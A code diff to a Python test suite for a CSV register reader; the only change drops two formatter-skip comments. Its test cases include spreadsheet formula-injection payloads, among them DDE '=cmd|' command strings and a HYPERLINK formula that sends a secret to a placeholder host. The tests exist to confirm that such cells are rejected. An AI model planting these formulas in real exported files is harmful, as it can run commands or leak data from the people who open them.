@@ -26,7 +26,7 @@ def text(cell: str, separator: str = ",") -> bytes:
     f'=CONCATENATE("Press",IF(FALSE,"{SECRET}",""))', f'=IF(FALSE,"{SECRET}","Press")', f'="{SECRET}"&""', f"= A1 & '{SECRET}'",
     f'+IF(0,"{SECRET}","x")', f'-(1)+N("{SECRET}")', f'@IF(0,"{SECRET}")', f"=cmd|' /C {SECRET}'!A0", f"+cmd|'{SECRET}'!A0",
     f'  =T("{SECRET}")', f'=-LEN("{SECRET}")', f'={{"{SECRET}"}}', f'=HYPERLINK("https://example.org/{SECRET}","Press")',
-])  # fmt: skip
+])
 def test_a_formula_is_not_read(cell: str, separator: str) -> None:
     data = text(cell, separator)
     reading = read_register(data, "r.csv")
@@ -45,7 +45,7 @@ def test_a_formula_is_not_read(cell: str, separator: str) -> None:
 @pytest.mark.parametrize("cell", [
     "- Organisation(s) of the request", "-Organisation(s)", "+44 20 7946 0000", "@dfe", "-", "=====", "=", "- Press | Books", "-12.5",
     "+1 (approved)", "a = b", "'=A1", '="Example Press"', "=> Press", "- Example Press (Ltd)", "+ Example Press",
-])  # fmt: skip
+])
 def test_what_only_begins_like_a_formula(cell: str) -> None:
     data = text(cell)
     reading = read_register(data, "r.csv")
